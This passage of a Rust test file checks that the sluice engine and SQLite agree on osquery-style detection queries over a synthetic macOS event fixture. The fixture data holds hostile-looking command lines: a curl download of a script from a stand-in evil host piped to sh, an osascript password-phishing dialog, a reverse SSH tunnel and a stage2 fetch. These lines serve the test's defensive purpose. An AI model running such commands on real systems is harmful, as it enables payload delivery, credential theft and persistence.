//! sluice against SQLite itself: the same event rows, the same osquery-style
//! queries, the same answers.
//!
//! The fixture is a small, realistic slice of a Mac's day: launchd, a login
//! shell, a user running `curl | sh` from Downloads, a dropper writing to
//! `/tmp` and renaming itself, `osascript` prompting for a password, and the
//! OpenBSM view of the same processes. It is written to Parquet with
//! sluice's own persister (so the tables are read exactly as in production)
//! and inserted into an in-memory SQLite (rusqlite's bundled build) under
//! osquery's column names and types, with osquery's `regex_match` and
//! `concat` registered as osquery registers them.
//!
//! Every query is written the way detection packs write them and runs on
//! both engines; results must be equal, as multisets unless the query orders
//! them. Numbers compare by value (SQLite's INTEGER 3 equals sluice's Int32 3
//! and a REAL 3.0), booleans as SQLite's 0/1. Queries that read `'now'`
//! compare against rows far in the past or the future, so both engines agree
//! whenever the test runs.

use std::collections::HashMap;
use std::sync::Arc;

use arrow::array::{
    Array, ArrayRef, BinaryArray, Int32Array, Int64Array, RecordBatch, StringArray,
    TimestampNanosecondArray,
};
use arrow::datatypes::DataType;
use datafusion::prelude::SessionContext;
use sluice_schemas::{ColumnOrigin, SqlType, TableDef};

/// A fixture cell.
#[derive(Debug, Clone, PartialEq)]
enum Cell {
    Null,
    Int(i64),
    Text(String),
}

impl From<i64> for Cell {
    fn from(v: i64) -> Self {
        Cell::Int(v)
    }
}
impl From<&str> for Cell {
    fn from(v: &str) -> Self {
        Cell::Text(v.to_string())
    }
}
impl From<Option<&str>> for Cell {
    fn from(v: Option<&str>) -> Self {
        v.map_or(Cell::Null, Cell::from)
    }
}

type Row = HashMap<&'static str, Cell>;

macro_rules! row {
    ($($column:ident : $value:expr),* $(,)?) => {{
        let mut row = Row::new();
        $(row.insert(stringify!($column), Cell::from($value));)*
        row
    }};
}

/// 2023-11-14 22:13:20 UTC: the fixture's morning.
const T0: i64 = 1_700_000_000;
/// 2096-10-02: rows "in the future", newer than any `'now'` this test sees.
const FUTURE: i64 = 4_000_000_000;

/// One process's exec as ES reports it.
#[allow(clippy::too_many_arguments)]
fn es_exec(
    seq: i64,
    time: i64,
    pid: i64,
    parent: i64,
    path: &str,
    cmdline: &str,
    uid: i64,
    username: Option<&str>,
    signing_id: Option<&str>,
    platform_binary: i64,
) -> Row {
    let argc = cmdline.split(' ').count() as i64;
    row! {
        version: 7, seq_num: seq, global_seq_num: seq + 1000, pid: pid, pidversion: pid * 10,
        path: path, parent: parent, original_parent: parent, session_id: 100,
        responsible_pid: parent, responsible_pidversion: parent * 10, parent_pidversion: parent * 10,
        cmdline: cmdline, cmdline_count: argc, env: "PATH=/usr/bin:/bin HOME=/Users/alice",
        env_count: 2, cwd: "/Users/alice", uid: uid, euid: uid, gid: 20, egid: 20,
        username: username, signing_id: signing_id, team_id: signing_id.map(|_| "APPLE"),
        cdhash: "5e3a1f", platform_binary: platform_binary, exit_code: None::<&str>,
        child_pid: None::<&str>, time: time, event_type: "exec", eid: format!("e{seq}").as_str(),
        codesigning_flags: "CS_VALID,CS_SIGNED",
    }
}

fn es_other(
    seq: i64,
    time: i64,
    pid: i64,
    parent: i64,
    path: &str,
    event_type: &str,
    uid: i64,
) -> Row {
    let mut row = es_exec(seq, time, pid, parent, path, "", uid, None, None, 0);
    row.insert("event_type", event_type.into());
    row.insert("cmdline", Cell::Null);
    row.insert("cmdline_count", Cell::Null);
    match event_type {
        "exit" => {
            row.insert(
                "exit_code",
                Cell::Int(if path.contains("tmp") { 1 } else { 0 }),
            );
        }
        "fork" => {
            row.insert("child_pid", Cell::Int(pid + 1000));
        }
        _ => {}
    }
    row
}

fn es_process_rows() -> Vec<Row> {
    vec![
        es_exec(
            1,
            T0,
            1,
            0,
            "/sbin/launchd",
            "/sbin/launchd",
            0,
            Some("root"),
            Some("com.apple.xpc.launchd"),
            1,
        ),
        es_exec(
            2,
            T0 + 5,
            100,
            1,
            "/bin/zsh",
            "-zsh",
            501,
            Some("alice"),
            Some("com.apple.zsh"),
            1,
        ),
        es_exec(
            3,
            T0 + 60,
            200,
            100,
            "/usr/bin/curl",
            "curl -fsSL https://evil.example/x.sh -o /tmp/x.sh",
            501,
            Some("alice"),
            Some("com.apple.curl"),
            1,
        ),
        es_exec(
            4,
            T0 + 65,
            210,
            100,
            "/bin/sh",
            "sh /tmp/x.sh",
            501,
            Some("alice"),
            Some("com.apple.sh"),
            1,
        ),
        es_exec(
            5,
            T0 + 70,
            220,
            210,
            "/tmp/.hidden/agent",
            "/tmp/.hidden/agent --daemon --port 4444",
            501,
            Some("alice"),
            None,
            0,
        ),
        es_exec(
            6,
            T0 + 75,
            230,
            220,
            "/usr/bin/osascript",
            "osascript -e display dialog \"Password:\" default answer \"\" with hidden answer",
            501,
            Some("alice"),
            Some("com.apple.osascript"),
            1,
        ),
        es_exec(
            7,
            T0 + 80,
            240,
            220,
            "/usr/bin/base64",
            "base64 -d /tmp/payload.b64",
            501,
            Some("alice"),
            Some("com.apple.base64"),
            1,
        ),
        es_exec(
            8,
            T0 + 90,
            250,
            1,
            "/usr/sbin/cron",
            "cron",
            0,
            Some("root"),
            Some("com.apple.cron"),
            1,
        ),
        es_exec(
            9,
            T0 + 95,
            260,
            250,
            "/usr/bin/python3",
            "python3 -c import socket,os",
            0,
            Some("root"),
            Some("com.apple.python3"),
            1,
        ),
        es_exec(
            10,
            T0 + 100,
            270,
            100,
            "/Applications/Safari.app/Contents/MacOS/Safari",
            "Safari",
            501,
            Some("alice"),
            Some("com.apple.Safari"),
            1,
        ),
        es_exec(
            11,
            T0 + 110,
            280,
            100,
            "/Users/alice/Downloads/Installer.app/Contents/MacOS/Installer",
            "Installer --silent",
            501,
            Some("alice"),
            Some("com.vendor.installer"),
            0,
        ),
        es_exec(
            12,
            T0 + 120,
            290,
            1,
            "/usr/libexec/sshd-keygen-wrapper",
            "sshd-keygen-wrapper",
            0,
            None,
            Some("com.apple.sshd-keygen-wrapper"),
            1,
        ),
        es_exec(
            13,
            T0 + 130,
            300,
            290,
            "/usr/sbin/sshd",
            "sshd -i",
            0,
            None,
            Some("com.apple.sshd"),
            1,
        ),
        es_exec(
            14,
            T0 + 140,
            310,
            300,
            "/bin/bash",
            "bash -i",
            502,
            Some("bob"),
            Some("com.apple.bash"),
            1,
        ),
        es_exec(
            15,
            T0 + 150,
            320,
            310,
            "/usr/bin/CURL",
            "CURL http://10.0.0.5:8080/stage2",
            502,
            Some("bob"),
            None,
            0,
        ),
        es_other(16, T0 + 160, 200, 100, "/usr/bin/curl", "exit", 501),
        es_other(17, T0 + 170, 220, 210, "/tmp/.hidden/agent", "fork", 501),
        es_other(18, T0 + 175, 240, 220, "/usr/bin/base64", "exit", 501),
        es_other(19, T0 + 180, 210, 100, "/bin/sh", "exit", 501),
        es_other(20, T0 + 200, 220, 210, "/tmp/.hidden/agent", "exit", 501),
        // Rows from "the future": what `time > strftime('%s','now') - 600` finds.
        es_exec(
            21,
            FUTURE,
            400,
            100,
            "/usr/bin/ssh",
            "ssh -R 9000:localhost:22 tunnel@203.0.113.9",
            501,
            Some("alice"),
            Some("com.apple.ssh"),
            1,
        ),
        es_exec(
            22,
            FUTURE + 30,
            410,
            400,
            "/usr/bin/nc",
            "nc -l 9000",
            501,
            Some("alice"),
            Some("com.apple.nc"),
            1,
        ),
        es_other(23, FUTURE + 60, 410, 400, "/usr/bin/nc", "exit", 501),
    ]
}

fn es_file_rows() -> Vec<Row> {
    let file = |seq: i64,
                time: i64,
                pid: i64,
                parent: i64,
                path: &str,
                dest: Option<&str>,
                event_type: &str| {
        let filename = path.rsplit('/').next().unwrap_or(path).to_string();
        let mut row = row! {
            version: 7, seq_num: seq, global_seq_num: seq + 5000, pid: pid, parent: parent,
            path: path, filename: filename.as_str(), dest_filename: dest, event_type: event_type,
            time: time, eid: format!("f{seq}").as_str(),
        };
        if dest.is_none() {
            row.insert("dest_filename", Cell::Null);
        }
        row
    };
    vec![
        file(1, T0 + 61, 200, 100, "/tmp/x.sh", None, "create"),
        file(2, T0 + 62, 200, 100, "/tmp/x.sh", None, "write"),
        file(3, T0 + 66, 210, 100, "/tmp/.hidden/agent", None, "create"),
        file(4, T0 + 67, 210, 100, "/tmp/.hidden/agent", None, "write"),
        file(5, T0 + 68, 210, 100, "/tmp/x.sh", None, "unlink"),
        file(
            6,
            T0 + 71,
            220,
            210,
            "/Users/alice/Library/LaunchAgents/com.evil.plist",
            None,
            "create",
        ),
        file(
            7,
            T0 + 72,
            220,
            210,
            "/Users/alice/Library/LaunchAgents/com.evil.plist.tmp",
            Some("/Users/alice/Library/LaunchAgents/com.evil.plist"),
            "rename",
        ),
        file(8, T0 + 81, 240, 220, "/tmp/payload.b64", None, "unlink"),
        file(
            9,
            T0 + 101,
            270,
            100,
            "/Users/alice/Library/Safari/History.db",
            None,
            "write",
        ),
        file(
            10,
            T0 + 111,
            280,
            100,
            "/Library/LaunchDaemons/com.vendor.helper.plist",
            None,
            "create",
        ),
        file(
            11,
            T0 + 151,
            320,
            310,
            "/private/var/tmp/stage2",
            None,
            "create",
        ),
        file(
            12,
            T0 + 152,
            320,
            310,
            "/private/var/tmp/stage2",
            None,
            "write",
        ),
        file(13, FUTURE + 31, 410, 400, "/tmp/nc.log", None, "create"),
    ]
}

fn bsm_rows() -> Vec<Row> {
    let exec = |time: i64,
                pid: i64,
                parent: i64,
                path: &str,
                cmdline: &str,
                uid: i64,
                syscall: &str| {
        row! {
            pid: pid, path: path, mode: "0100755", cmdline: cmdline, cmdline_size: cmdline.len() as i64,
            env: "HOME=/Users/alice", env_count: 1, env_size: 17, cwd: "/Users/alice", auid: 501,
            uid: uid, euid: uid, gid: 20, egid: 20, owner_uid: 0, owner_gid: 0, atime: T0 - 100,
            mtime: T0 - 200, ctime: T0 - 200, btime: T0 - 300, overflows: "", parent: parent,
            time: time, uptime: time - T0 + 3600, eid: format!("b{pid}{time}").as_str(), status: 0,
            fsuid: uid, suid: uid, fsgid: 20, sgid: 20, syscall: syscall,
        }
    };
    vec![
        exec(T0 + 5, 100, 1, "/bin/zsh", "-zsh", 501, "execve"),
        exec(
            T0 + 60,
            200,
            100,
            "/usr/bin/curl",
            "curl -fsSL https://evil.example/x.sh -o /tmp/x.sh",
            501,
            "posix_spawn",
        ),
        exec(T0 + 65, 210, 100, "/bin/sh", "sh /tmp/x.sh", 501, "execve"),
        exec(
            T0 + 70,
            220,
            210,
            "/tmp/.hidden/agent",
            "/tmp/.hidden/agent --daemon --port 4444",
            501,
            "execve",
        ),
        exec(
            T0 + 95,
            260,
            250,
            "/usr/bin/python3",
            "python3 -c import socket,os",
            0,
            "posix_spawn",
        ),
        exec(
            T0 + 150,
            320,
            310,
            "/usr/bin/CURL",
            "CURL http://10.0.0.5:8080/stage2",
            502,
            "execve",
        ),
        exec(T0 + 170, 1220, 220, "/tmp/.hidden/agent", "", 501, "fork"),
        exec(
            FUTURE,
            400,
            100,
            "/usr/bin/ssh",
            "ssh -R 9000:localhost:22 tunnel@203.0.113.9",
            501,
            "posix_spawn",
        ),
    ]
}

/// osquery's columns of a table (hidden ones included), in osquery's order.
fn osquery_columns(def: &TableDef) -> Vec<&'static sluice_schemas::Column> {
    def.columns.iter().filter(|c| c.is_osquery()).collect()
}

/// The Arrow batch of `rows` in the table's full schema (sluice's own
/// columns: `time_ns` from `time`, the `_bytes` sidecars NULL).
fn batch_of(def: &TableDef, rows: &[Row]) -> RecordBatch {
    let schema = def.schema();
    let columns: Vec<ArrayRef> = def
        .columns
        .iter()
        .map(|column| -> ArrayRef {
            let cell = |row: &Row| row.get(column.name).cloned().unwrap_or(Cell::Null);
            let int = |row: &Row| match cell(row) {
                Cell::Int(v) => Some(v),
                Cell::Null => None,
                Cell::Text(t) => panic!("{}: text {t} in an integer column", column.name),
            };
            match column.sql_type {
                SqlType::Integer => Arc::new(Int32Array::from_iter(
                    rows.iter().map(|r| int(r).map(|v| v as i32)),
                )),
                SqlType::BigInt => Arc::new(Int64Array::from_iter(rows.iter().map(int))),
                SqlType::Text => {
                    Arc::new(StringArray::from_iter(rows.iter().map(|r| match cell(r) {
                        Cell::Text(t) => Some(t),
                        Cell::Null => None,
                        Cell::Int(v) => Some(v.to_string()),
                    })))
                }
                SqlType::TimestampNs => Arc::new(
                    TimestampNanosecondArray::from_iter(rows.iter().map(|r| match r.get("time") {
                        Some(Cell::Int(t)) => Some(t * 1_000_000_000),
                        _ => None,
                    }))
                    .with_timezone("UTC"),
                ),
                SqlType::Bytes => {
                    Arc::new(BinaryArray::from_iter(rows.iter().map(|_| None::<&[u8]>)))
                }
                SqlType::Double => panic!("no DOUBLE columns in the fixture tables"),
            }
        })
        .collect();
    RecordBatch::try_new(schema, columns).expect("fixture batch")
}

/// The fixture: Parquet files under a temp data dir, and the same rows in
/// SQLite.
struct Fixture {
    _dir: tempfile::TempDir,
    ctx: SessionContext,
    sqlite: rusqlite::Connection,
}

fn fixture() -> Fixture {
    let dir = tempfile::tempdir().expect("tempdir");
    let persister = sluice_sinks::ParquetPersister::new(dir.path());
    let sqlite = rusqlite::Connection::open_in_memory().expect("sqlite");
    register_osquery_functions(&sqlite);
    for (name, rows) in [
        ("es_process_events", es_process_rows()),
        ("es_process_file_events", es_file_rows()),
        ("process_events", bsm_rows()),
    ] {
        let def = sluice_schemas::table(name).expect("table");
        persister
            .persist(name, &batch_of(def, &rows))
            .expect("persist fixture");

        let columns = osquery_columns(def);
        let declared: Vec<String> = columns
            .iter()
            .map(|c| format!("\"{}\" {}", c.name, c.sql_type.name()))
            .collect();
        sqlite
            .execute_batch(&format!("CREATE TABLE {name} ({});", declared.join(", ")))
            .expect("sqlite create");
        let placeholders = vec!["?"; columns.len()].join(", ");
        let mut insert = sqlite
            .prepare(&format!("INSERT INTO {name} VALUES ({placeholders})"))
            .expect("sqlite insert");
        for row in &rows {
            let values: Vec<rusqlite::types::Value> = columns
                .iter()
                .map(|c| match row.get(c.name).cloned().unwrap_or(Cell::Null) {
                    Cell::Null => rusqlite::types::Value::Null,
                    Cell::Int(v) => rusqlite::types::Value::Integer(v),
                    Cell::Text(t) => rusqlite::types::Value::Text(t),
                })
                .collect();
            insert
                .execute(rusqlite::params_from_iter(values))
                .expect("sqlite insert row");
        }
    }
    let ctx = sluice::catalog::open_catalog(dir.path()).expect("catalog");
    Fixture {
        _dir: dir,
        ctx,
        sqlite,
    }
}

/// osquery's `regex_match` and `concat`, as osquery registers them in its
/// SQLite (osquery/sql/sqlite_string.cpp): `regex_match(text, pattern,
/// group)` is the group of the first match or NULL; `concat` joins its
/// arguments' text, skipping NULLs.
fn register_osquery_functions(sqlite: &rusqlite::Connection) {
    use rusqlite::functions::FunctionFlags;
    use rusqlite::types::ValueRef;
    let flags = FunctionFlags::SQLITE_UTF8 | FunctionFlags::SQLITE_DETERMINISTIC;
    sqlite
        .create_scalar_function("regex_match", 3, flags, |ctx| {
            let (Some(text), Some(pattern)) =
                (ctx.get::<Option<String>>(0)?, ctx.get::<Option<String>>(1)?)
            else {
                return Ok(None);
            };
            let group: i64 = ctx.get(2)?;
            let regex = regex::Regex::new(&pattern)
                .map_err(|e| rusqlite::Error::UserFunctionError(Box::new(e)))?;
            Ok(regex
                .captures(&text)
                .and_then(|c| c.get(usize::try_from(group).ok()?))
                .map(|m| m.as_str().to_string()))
        })
        .expect("regex_match");
    sqlite
        .create_scalar_function("concat", -1, flags, |ctx| {
            let mut out = String::new();
            for i in 0..ctx.len() {
                match ctx.get_raw(i) {
                    ValueRef::Null => {}
                    ValueRef::Integer(v) => out.push_str(&v.to_string()),
                    ValueRef::Real(v) => out.push_str(&v.to_string()),
                    ValueRef::Text(t) | ValueRef::Blob(t) => {
                        out.push_str(&String::from_utf8_lossy(t))
                    }
                }
            }
            Ok(out)
        })
        .expect("concat");
}

/// A result value, normalised across the engines.
#[derive(Debug, Clone, PartialEq, PartialOrd)]
enum Out {
    Null,
    Num(f64),
    Text(String),
}

fn sqlite_rows(sqlite: &rusqlite::Connection, sql: &str) -> Vec<Vec<Out>> {
    let mut statement = sqlite
        .prepare(sql)
        .unwrap_or_else(|e| panic!("SQLite rejects {sql}: {e}"));
    let width = statement.column_count();
    let mut rows = statement.query([]).expect("sqlite query");
    let mut out = Vec::new();
    while let Some(row) = rows.next().expect("sqlite row") {
        out.push(
            (0..width)
                .map(|i| match row.get_ref(i).expect("cell") {
                    rusqlite::types::ValueRef::Null => Out::Null,
                    rusqlite::types::ValueRef::Integer(v) => Out::Num(v as f64),
                    rusqlite::types::ValueRef::Real(v) => Out::Num(v),
                    rusqlite::types::ValueRef::Text(t) => {
                        Out::Text(String::from_utf8_lossy(t).into_owned())
                    }
                    rusqlite::types::ValueRef::Blob(b) => {
                        Out::Text(String::from_utf8_lossy(b).into_owned())
                    }
                })
                .collect(),
        );
    }
    out
}

async fn sluice_rows(ctx: &SessionContext, sql: &str) -> Vec<Vec<Out>> {
    let plans = sluice::query::plan(ctx, sql)
        .await
        .unwrap_or_else(|e| panic!("sluice rejects {sql}: {e}"));
    assert_eq!(plans.len(), 1, "{sql}");
    let batches = ctx
        .execute_logical_plan(plans.into_iter().next().expect("plan"))
        .await
        .unwrap_or_else(|e| panic!("sluice fails {sql}: {e}"))
        .collect()
        .await
        .unwrap_or_else(|e| panic!("sluice fails {sql}: {e}"));
    let mut out = Vec::new();
    for batch in batches {
        let columns: Vec<Vec<Out>> = batch.columns().iter().map(column_values).collect();
        for row in 0..batch.num_rows() {
            out.push(columns.iter().map(|c| c[row].clone()).collect());
        }
    }
    out
}

fn column_values(array: &ArrayRef) -> Vec<Out> {
    let numeric = match array.data_type() {
        DataType::Boolean => Some(arrow::compute::cast(array, &DataType::Int64).expect("bool")),
        t if t.is_numeric() => Some(arrow::compute::cast(array, &DataType::Float64).expect("num")),
        _ => None,
    };
    if let Some(numbers) = numeric {
        let numbers = numbers
            .as_any()
            .downcast_ref::<arrow::array::Float64Array>()
            .cloned()
            .unwrap_or_else(|| {
                let cast = arrow::compute::cast(&numbers, &DataType::Float64).expect("num");
                cast.as_any()
                    .downcast_ref::<arrow::array::Float64Array>()
                    .expect("f64")
                    .clone()
            });
        return (0..numbers.len())
            .map(|i| {
                if numbers.is_null(i) {
                    Out::Null
                } else {
                    Out::Num(numbers.value(i))
                }
            })
            .collect();
    }
    let text = arrow::compute::cast(array, &DataType::Utf8).expect("text");
    let text = text.as_any().downcast_ref::<StringArray>().expect("utf8");
    (0..text.len())
        .map(|i| {
            if text.is_null(i) {
                Out::Null
            } else {
                Out::Text(text.value(i).to_string())
            }
        })
        .collect()
}

fn sort_rows(rows: &mut [Vec<Out>]) {
    rows.sort_by(|a, b| a.partial_cmp(b).unwrap_or(std::cmp::Ordering::Equal));
}

/// Whether the query itself (not an aggregate inside it) has ORDER BY: the
/// last ORDER BY is outside every parenthesis.
fn orders_rows(sql: &str) -> bool {
    let upper = sql.to_ascii_uppercase();
    upper.rfind("ORDER BY").is_some_and(|at| {
        let rest = &upper[at..];
        rest.matches(')').count() <= rest.matches('(').count()
    })
}

/// Runs `sql` on both engines and requires the same rows.
async fn same(f: &Fixture, sql: &str) -> usize {
    let mut expected = sqlite_rows(&f.sqlite, sql);
    let mut actual = sluice_rows(&f.ctx, sql).await;
    if !orders_rows(sql) {
        sort_rows(&mut expected);
        sort_rows(&mut actual);
    }
    assert_eq!(actual, expected, "\nquery: {sql}");
    expected.len()
}

/// The detection-pack style queries. Each comment names the constructs it
/// exercises.
const QUERIES: &[&str] = &[
    // 1. "double quoted" text that names no column is a string.
    r#"SELECT pid, path FROM es_process_events WHERE event_type = "exec" AND username = "alice""#,
    // 2. A double-quoted column name is still the column.
    r#"SELECT "pid", "path" FROM es_process_events WHERE "event_type" = 'fork'"#,
    // 3. SELECT alias in WHERE.
    "SELECT pid, lower(path) AS lpath FROM es_process_events WHERE lpath LIKE '%curl%'",
    // 4. SELECT alias in GROUP BY, ORDER BY.
    "SELECT substr(path, 1, instr(substr(path, 2), '/')) AS top, count(*) AS n FROM es_process_events GROUP BY top ORDER BY top",
    // 5. SELECT alias in HAVING.
    "SELECT uid AS who, count(*) AS n FROM es_process_events WHERE event_type = 'exec' GROUP BY uid HAVING n > 3",
    // 6. Bare columns next to GROUP BY (each pid has one path here).
    "SELECT pid, path, count(*) AS events FROM es_process_events GROUP BY pid",
    // 7. Bare column with max(): SQLite takes the row holding the max.
    "SELECT uid, path, max(time) AS last_seen FROM es_process_events WHERE event_type = 'exec' GROUP BY uid",
    // 8. Bare column with min().
    "SELECT parent, path, min(time) FROM es_process_events WHERE event_type = 'exec' GROUP BY parent",
    // 9. Comma join mixed with an explicit join.
    "SELECT e.pid, p.path AS parent_path, f.path AS file FROM es_process_events e, es_process_events p JOIN es_process_file_events f ON f.pid = e.pid WHERE p.pid = e.parent AND e.event_type = 'exec' AND p.event_type = 'exec'",
    // 10. Plain comma join (the classic osquery form).
    "SELECT e.path, f.path FROM es_process_events e, es_process_file_events f WHERE e.pid = f.pid AND e.event_type = 'exec' AND f.event_type = 'create'",
    // 11. time > strftime('%s','now') - 600: only the future rows.
    "SELECT pid, path FROM es_process_events WHERE time > strftime('%s','now') - 600",
    // 12. The same window on the file table, with BETWEEN-free arithmetic.
    "SELECT path FROM es_process_file_events WHERE time >= strftime('%s', 'now') - 86400 * 7",
    // 13. Text compared with a number, both ways round.
    "SELECT pid FROM es_process_events WHERE uid = '0' AND pid > '100'",
    // 14. Text subtracted from and added to numbers.
    "SELECT pid, '10' - 3 AS a, time - '1700000000' AS since, '2.5' + 1 AS b FROM es_process_events WHERE event_type = 'exec' AND time < 2000000000",
    // 15. || and concat() with integers (and concat skipping NULL).
    "SELECT path || ':' || pid AS tag, concat(username, '@', uid, '/', exit_code) AS who FROM es_process_events",
    // 16. == is =.
    "SELECT pid FROM es_process_events WHERE uid == 0 AND event_type == 'exec'",
    // 17. strftime with the usual formats, datetime, date, time.
    "SELECT strftime('%Y-%m-%d %H:%M:%S', time, 'unixepoch') AS ts, strftime('%j|%w|%W|%u|%H%M', time, 'unixepoch') AS parts, datetime(time, 'unixepoch') AS dt, date(time, 'unixepoch') AS d, time(time, 'unixepoch') AS t FROM es_process_events",
    // 18. Date modifiers and unixepoch().
    "SELECT pid, datetime(time, 'unixepoch', 'start of day', '+1 day') AS next_day, unixepoch(datetime(time, 'unixepoch')) - time AS zero, strftime('%s', datetime(time, 'unixepoch', '-1 hour')) AS hour_ago FROM es_process_file_events",
    // 19. Grouping by hour of day.
    "SELECT strftime('%H', time, 'unixepoch') AS hour, count(*) AS n FROM es_process_events GROUP BY hour",
    // 20. ifnull, coalesce, iif.
    "SELECT pid, ifnull(username, 'unknown') AS user, coalesce(signing_id, team_id, 'unsigned') AS signer, iif(uid = 0, 'root', 'user') AS kind, iif(platform_binary, 'apple', 'third-party') AS origin FROM es_process_events WHERE event_type = 'exec'",
    // 21. instr, substr (positive, negative, counts), replace.
    "SELECT instr(path, 'bin') AS i, substr(path, 2, 3) AS s1, substr(path, -4) AS s2, substr(path, -4, 2) AS s3, replace(path, '/usr', '') AS r FROM es_process_events",
    // 22. trim/ltrim/rtrim with a character set.
    "SELECT trim(cmdline, ' -') AS t, ltrim(path, '/bin') AS l, rtrim(path, 'hs') AS r, trim('  x  ') AS plain FROM es_process_events WHERE event_type = 'exec'",
    // 23. Scalar min/max with several arguments (NULL if any is NULL).
    "SELECT pid, min(pid, parent, 150) AS lo, max(pid, parent, uid) AS hi, max(pid, exit_code) AS with_null FROM es_process_events",
    // 24. printf.
    "SELECT printf('%5d|%-8s|%x|%05.1f|%s', pid, username, uid, pid / 3.0, event_type) AS line FROM es_process_events",
    // 25. group_concat with an order.
    "SELECT parent, group_concat(pid, ';' ORDER BY pid) AS children FROM es_process_events GROUP BY parent",
    // 26. group_concat DISTINCT with its default separator.
    "SELECT parent, group_concat(DISTINCT event_type ORDER BY event_type) AS kinds FROM es_process_events GROUP BY parent",
    // 27. regex_match and its NULL for no match.
    "SELECT pid, regex_match(cmdline, '(https?)://([^/ :]+)', 2) AS host, regex_match(cmdline, 'nomatch(x)', 1) AS none FROM es_process_events WHERE event_type = 'exec'",
    // 28. regex_match in WHERE.
    "SELECT pid, path FROM es_process_events WHERE regex_match(path, '^/tmp/', 0) IS NOT NULL",
    // 29. LIKE ignores ASCII case.
    "SELECT pid, path FROM es_process_events WHERE path LIKE '%/curl'",
    // 30. NOT x LIKE y and x NOT LIKE y.
    "SELECT pid FROM es_process_events WHERE NOT path LIKE '/usr/%' AND path NOT LIKE '/BIN/%'",
    // 31. LIKE with _ and a column pattern.
    "SELECT f.path FROM es_process_file_events f WHERE f.path LIKE '/tmp/_.sh' OR f.filename LIKE '%.PLIST'",
    // 32. Scalar subquery in SELECT (correlated).
    "SELECT e.pid, e.path, (SELECT p.path FROM es_process_events p WHERE p.pid = e.parent AND p.event_type = 'exec') AS parent_path FROM es_process_events e WHERE e.event_type = 'exec'",
    // 33. Scalar aggregate subquery in SELECT.
    "SELECT e.pid, (SELECT count(*) FROM es_process_file_events f WHERE f.pid = e.pid) AS files FROM es_process_events e WHERE e.event_type = 'exec'",
    // 34. IN (subquery).
    "SELECT pid, path FROM es_process_events WHERE event_type = 'exec' AND pid IN (SELECT pid FROM es_process_file_events WHERE path LIKE '/tmp/%')",
    // 35. NOT IN (subquery) and EXISTS.
    "SELECT pid FROM es_process_events e WHERE event_type = 'exec' AND pid NOT IN (SELECT pid FROM es_process_file_events) AND EXISTS (SELECT 1 FROM es_process_events c WHERE c.parent = e.pid)",
    // 36. Self-join: process, parent, grandparent.
    "SELECT c.pid, c.path, p.path AS parent_path, g.path AS grandparent_path FROM es_process_events c JOIN es_process_events p ON p.pid = c.parent AND p.event_type = 'exec' LEFT JOIN es_process_events g ON g.pid = p.parent AND g.event_type = 'exec' WHERE c.event_type = 'exec'",
    // 37. CTE.
    "WITH execs AS (SELECT pid, parent, path FROM es_process_events WHERE event_type = 'exec'), tmp_writers AS (SELECT DISTINCT pid FROM es_process_file_events WHERE path LIKE '/tmp/%') SELECT e.pid, e.path FROM execs e JOIN tmp_writers t ON t.pid = e.pid",
    // 38. UNION across ES and BSM.
    "SELECT path FROM es_process_events WHERE event_type = 'exec' UNION SELECT path FROM process_events",
    // 39. UNION ALL with ORDER BY.
    "SELECT pid, 'es' AS src FROM es_process_events WHERE event_type = 'exec' AND uid = 0 UNION ALL SELECT pid, 'bsm' FROM process_events WHERE uid = 0 ORDER BY pid, src",
    // 40. CASE (searched and simple).
    "SELECT pid, CASE WHEN path LIKE '/tmp/%' THEN 'tmp' WHEN path LIKE '/usr/%' THEN 'system' ELSE 'other' END AS area, CASE event_type WHEN 'exec' THEN 1 WHEN 'exit' THEN 2 ELSE 0 END AS k FROM es_process_events",
    // 41. Hidden column by name.
    "SELECT eid, pid FROM es_process_events WHERE eid LIKE 'e1%'",
    // 42. BSM process events: syscall and hidden columns.
    "SELECT pid, path, syscall, cmdline_size, env_count FROM process_events WHERE syscall IN ('execve', 'posix_spawn') AND uid = 501",
    // 43. Detection: shells spawned by a non-shell parent within BSM + ES.
    "SELECT b.pid, b.path, e.cmdline FROM process_events b JOIN es_process_events e ON e.pid = b.pid AND e.event_type = 'exec' WHERE b.path IN ('/bin/sh', '/bin/bash', '/bin/zsh')",
    // 44. Detection: persistence writes, with the writer's image.
    "SELECT f.path, f.dest_filename, f.event_type, p.path AS writer FROM es_process_file_events f LEFT JOIN es_process_events p ON p.pid = f.pid AND p.event_type = 'exec' WHERE f.path LIKE '%/LaunchAgents/%' OR f.path LIKE '/Library/LaunchDaemons/%' OR f.dest_filename LIKE '%LaunchAgents%'",
    // 45. Detection: unsigned binaries, counted per directory.
    "SELECT rtrim(path, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ.-_0123456789') AS dir, count(*) AS n FROM es_process_events WHERE signing_id IS NULL AND event_type = 'exec' GROUP BY dir",
    // 46. Detection: process lifetime from exec to exit.
    "SELECT x.pid, x.path, e.time - x.time AS lifetime, e.exit_code FROM es_process_events x JOIN es_process_events e ON e.pid = x.pid AND e.event_type = 'exit' WHERE x.event_type = 'exec' ORDER BY lifetime DESC, x.pid",
    // 47. Ordering and LIMIT.
    "SELECT pid, path, time FROM es_process_events ORDER BY time DESC, pid LIMIT 5",
    // 48. Detection: downloads run by the user, newest first, with the time as text.
    "SELECT datetime(time, 'unixepoch') AS at, path, cmdline FROM es_process_events WHERE (path LIKE '/Users/%/Downloads/%' OR cmdline LIKE '%http%') AND event_type = 'exec' ORDER BY time DESC",
    // 49. Counting with DISTINCT and a numeric condition.
    "SELECT count(DISTINCT parent) AS parents, count(*) AS execs, sum(platform_binary) AS apple, avg(uid) AS mean_uid FROM es_process_events WHERE event_type = 'exec'",
];

#[tokio::test]
async fn like_follows_sqlite_on_escapes_case_and_characters() {
    let f = fixture();
    for sql in [
        // Only ASCII letters fold; `_` is one character; `\` is no escape
        // unless ESCAPE names it; numbers are matched as their text.
        "SELECT 'é' LIKE 'É' AS a, 'Straße' LIKE 'STRASSE' AS b, 'aéb' LIKE 'a_b' AS c, \
         'a\\b' LIKE 'a\\b' AS d, 'a\\xb' LIKE 'a\\_b' AS e, '100%' LIKE '100!%' ESCAPE '!' AS g, \
         '1000' LIKE '100!%' ESCAPE '!' AS h, 12 LIKE '1%' AS i, NULL LIKE 'a' AS j, 'a' LIKE NULL AS k",
        "SELECT pid, path FROM es_process_events WHERE path LIKE '%/C_R_' ESCAPE '/' OR path NOT LIKE '%%s%'",
        // A pattern per row, and a number as a pattern.
        "SELECT pid, path FROM es_process_events WHERE path LIKE '%' || upper(substr(path, -3)) AND pid LIKE pid",
    ] {
        assert!(same(&f, sql).await > 0, "{sql}");
    }
}

#[tokio::test]
async fn osquery_queries_match_sqlite() {
    let f = fixture();
